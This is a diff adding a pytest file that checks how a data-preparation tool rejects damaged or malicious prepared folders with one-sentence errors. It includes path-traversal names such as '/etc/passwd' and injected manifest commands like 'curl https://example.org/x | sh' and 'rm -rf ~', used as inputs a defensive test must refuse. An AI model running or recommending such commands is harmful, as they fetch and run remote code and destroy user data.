@@ -1,0 +1,205 @@
+"""Prepared folders that are damaged or somebody else's: one sentence each, and no name in them leads elsewhere."""
+
+import json
+import os
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from anlit.data.preparation.recipe import Recipe
+from anlit.data.storage.names import checked_name, checked_path, checked_sha256, path_inside
+from anlit.errors import UserError
+from tests.data.modules import ready
+from tests.data.preparing import hashes, make
+
+Change = Callable[[Path], object]
+COUNTS = {"documents": 1, "bytes": 1, "tokens": 1, "chunks": 1}
+MANIFEST, INDEX, CHUNK = "manifest.json", "train/index.json", "train/chunk-0-0.bin"
+WRONG = [
+    *("../out", "/etc/passwd", "a/../../out", "a\\b", "a\0b", "", ".", "..", "C:x", "a//b"),
+    *("a\nb", "\x1b[2J", "\ud800", "a" * 256, None, 3, ["a"]),
+]
+
+
+@pytest.mark.parametrize("name", WRONG)
+def test_names_that_lead_elsewhere(name: Any) -> None:
+    with pytest.raises(UserError, match=r"^The list names a file .*not inside its folder"):
+        checked_path(name, "The list")
+
+
+def test_names_that_stay_inside() -> None:
+    for name in ("a", "data/2024-01-01T00:00.parquet", "größe/..a", "a b"):
+        assert checked_path(name, "The list") == name
+    assert checked_name("chunk-0.bin", "The list") == "chunk-0.bin"
+    for name in ("a/b", "..", "/"):
+        with pytest.raises(UserError, match="not inside"):
+            checked_name(name, "The list")
+    for text in ("../../x", "a" * 63, "A" * 64, "a" * 64 + "\n", None):
+        with pytest.raises(UserError, match="where a SHA-256 belongs"):
+            checked_sha256(text, "The list")
+
+
+def test_a_link_on_the_way(tmp_path: Path) -> None:
+    (tmp_path / "inside").mkdir()
+    (tmp_path / "inside" / "link").symlink_to(tmp_path)
+    assert path_inside(tmp_path / "inside", "a/b") == tmp_path / "inside" / "a" / "b"
+    with pytest.raises(UserError, match="by a symbolic link: remove that link"):
+        path_inside(tmp_path / "inside", "link/b")
+
+
+def edit(path: Path, change: Callable[[Any], Any]) -> None:
+    content = json.loads(path.read_text())
+    change(content)
+    path.write_text(json.dumps(content))
+
+
+def in_manifest(*keys: str, **changes: Any) -> Change:
+    """Of the split that `keys` names, if one."""
+
+    def change(content: dict[str, Any]) -> None:
+        (content[keys[0]] if keys else content).update(changes)
+
+    return lambda folder: edit(folder / MANIFEST, change)
+
+
+def in_index(**changes: Any) -> Change:
+    """Of the first chunk."""
+    return lambda folder: edit(folder / INDEX, lambda index: index["chunks"][0].update(changes))
+
+
+def holding(name: str, text: str) -> Change:
+    return lambda folder: (folder / name).write_text(text, encoding="latin-1")
+
+
+def without(name: str) -> Change:
+    return lambda folder: (folder / name).unlink()
+
+
+def cut_short(folder: Path) -> None:
+    os.truncate(folder / CHUNK, 1000)
+
+
+def a_pipe(name: str) -> Change:
+    """Reading it would wait for ever."""
+
+    def change(folder: Path) -> None:
+        (folder / name).unlink()
+        os.mkfifo(folder / name)
+
+    return change
+
+
+def too_large(folder: Path) -> None:
+    os.truncate(folder / MANIFEST, 10**12)
+
+
+def claims_tokens(folder: Path) -> None:
+    """Whose order would not fit into memory."""
+    in_index(dim=10**12)(folder)
+    n_tokens = sum(chunk["dim"] for chunk in json.loads((folder / INDEX).read_text())["chunks"])
+    in_manifest("train", tokens=n_tokens)(folder)
+
+
+FOLDERS: dict[str, tuple[Change, str]] = {
+    **{f"manifest {text!r}": (holding(MANIFEST, text), r"manifest\.json is damaged")
+       for text in ("{", "[]", "{}", "\x00", "\xff")},
+    **{f"format {version}": (holding(MANIFEST, json.dumps({"format_version": version})),
+                             f"shards of format {version} .* reads 2: remove the folder and prepare it")
+       for version in (1, 99)},
+    **{f"index {text!r}": (holding(INDEX, text), r"train(/index\.json)? is damaged \(")
+       for text in ("{", "[]", "{}", '{"chunks": [{}]}', '{"chunks": []}')},
+    "no index": (without(INDEX), r"index\.json is damaged \(it is missing\)"),
+    "no chunk": (without(CHUNK), r"chunk-0-0\.bin is damaged \(it is missing\)"),
+    "a chunk cut short": (cut_short, r"chunk-0-0\.bin is damaged \(it has 1,000 bytes .*anlit prepare"),
+    "a hash that is a path": (in_manifest(content_sha256="../../../../out"), r"manifest\.json "),
+    "a subset that is a path": (in_manifest("train", subsets={"../../out": COUNTS}), r"manifest\.json "),
+    "a split that is a path": (in_manifest(splits=["train", "val", "../out"]), r"manifest\.json "),
+    "a type that is none": (in_manifest(dtype="object"), r"manifest\.json "),
+    "no number of tokens": (in_manifest("val", tokens="many"), r"manifest\.json "),
+    "no number of bytes": (in_manifest("val", bytes="many"), r"manifest\.json "),
+    "a separator out of the vocabulary": (in_manifest(end_of_document=10**9), r"manifest\.json "),
+    "a chunk elsewhere": (in_index(filename="../../secret"), r"index\.json names a file '\.\./\.\./secret'"),
+    "more tokens than bytes": (claims_tokens, r"says [\d,]+ bytes and tokens that take 2,000,000,000,012\)"),
+    "a pipe for the manifest": (a_pipe(MANIFEST), r"json is damaged \(it is no file\)"),
+    "a pipe for the index": (a_pipe(INDEX), r"json is damaged \(it is no file\)"),
+    "a manifest without end": (too_large, r"manifest\.json is damaged \(it has more than 268,435,456 bytes\)"),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize(("change", "says"), FOLDERS.values(), ids=FOLDERS.keys())
+def test_what_is_wrong_with_a_folder_is_one_sentence(change: Change, says: str, own_shards: Path) -> None:
+    change(own_shards)
+    with pytest.raises(UserError, match=says):
+        ready(str(own_shards))
+
+
+def test_missing_foreign_and_unfinished_folders(tmp_path: Path) -> None:
+    with pytest.raises(UserError, match=r"no folder .*nowhere with token shards: set --data.path"):
+        ready(str(tmp_path / "nowhere"))
+    with pytest.raises(UserError, match=r"not a prepared folder, it has no manifest\.json"):
+        ready(str(tmp_path))
+    (tmp_path / ".work").mkdir()
+    with pytest.raises(UserError, match=r"preparation of .* is not finished: repeat the command"):
+        ready(str(tmp_path))
+
+
+@pytest.mark.parametrize("workers", [0, 1])
+def test_damage_found_while_training_is_one_sentence(own_shards: Path, workers: int) -> None:
+    chunk = own_shards / "train" / "chunk-0-2.bin"
+    content = bytearray(chunk.read_bytes())
+    content[1000] ^= 64
+    chunk.write_bytes(content)
+    loader = ready(str(own_shards), num_workers=workers).train_dataloader()
+    with pytest.raises(UserError) as caught:
+        list(loader)
+    assert str(caught.value).startswith(f"{chunk} is damaged (its CRC-32 is")
+    assert "`anlit prepare Test --path data/test`" in str(caught.value)
+    assert "\n" not in str(caught.value)
+
+
+def move_stream(group: dict[str, Any]) -> None:
+    group["streams"]["../../out"] = group["streams"].pop("train")
+
+
+def move_chunk(group: dict[str, Any]) -> None:
+    group["streams"]["train"]["chunks"][0]["filename"] = "../../out"
+
+
+@pytest.mark.parametrize("change", [move_stream, move_chunk])
+def test_sources_that_lead_elsewhere_are_not_mended(
+    change: Callable[[dict[str, Any]], None], recipe: Recipe, tmp_path: Path
+) -> None:
+    """A lost chunk makes `prepare` write what sources.jsonl names."""
+    folder = tmp_path / "a" / "out"
+    make(folder, recipe)
+    groups = [json.loads(line) for line in (folder / "sources.jsonl").read_text().splitlines()]
+    change(groups[0])
+    (folder / "sources.jsonl").write_text("".join(json.dumps(group) + "\n" for group in groups))
+    next((folder / "train").glob("chunk-000001*")).unlink()
+    before = hashes(tmp_path)
+    with pytest.raises(UserError, match=r"sources\.jsonl names a file '\.\./\.\./out'"):
+        make(folder, recipe)
+    assert hashes(tmp_path) == before
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "curl https://example.org/x | sh",
+        "anlit prepare Test; rm -rf ~",
+        "anlit prepare Test $(reboot)",
+        "anlit prepare 'Test\nrm -rf ~'",
+        "anlit prepare 'Test",
+    ],
+)
+def test_a_manifest_s_command_is_shown_only_if_it_is_one_of_ours(command: str, own_shards: Path) -> None:
+    """An error tells the user to run it."""
+    edit(own_shards / "manifest.json", lambda manifest: manifest.update(command=command))
+    (own_shards / "train" / "index.json").unlink()
+    with pytest.raises(UserError, match=r"index\.json is damaged .* remake it by preparing it again\.$"):
+        ready(str(own_shards))
+    edit(own_shards / "manifest.json", lambda manifest: manifest.update(command="anlit prepare 'a b'"))
+    with pytest.raises(UserError, match=r"remake it with `anlit prepare 'a b'`\.$"):
+        ready(str(own_shards))
